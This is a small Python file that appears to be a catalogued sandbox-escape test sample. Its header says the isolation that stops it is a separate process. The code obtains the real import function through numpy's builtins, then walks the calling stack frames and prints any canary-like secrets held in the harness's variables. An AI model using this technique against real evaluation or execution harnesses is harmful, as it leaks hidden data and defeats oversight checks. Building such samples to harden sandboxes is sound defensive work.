"""
family: frames, gc, modules
tries: walks up the frames that called it and prints their variables and globals
stopped_by: [separate_process]
shows: leaked
"""

import numpy as np

real_import = np.__dict__["__builtins__"]["__import__"]
sys = real_import("sys")
expression = real_import("re")


def frames():
    for top in sys._current_frames().values():
        while top is not None:
            yield top
            top = top.f_back


def texts(values):
    for value in [*values.values()]:
        try:
            yield str(value)
        except BaseException:
            pass


def double(x):
    if x.shape == (2, 3):
        seen = [text for frame in frames() for text in (*texts(frame.f_locals), *texts(frame.f_globals))]
        print(set(expression.findall("canary[0-9a-f]{16}", " ".join(seen))))
    return x


def total(x):
    return x
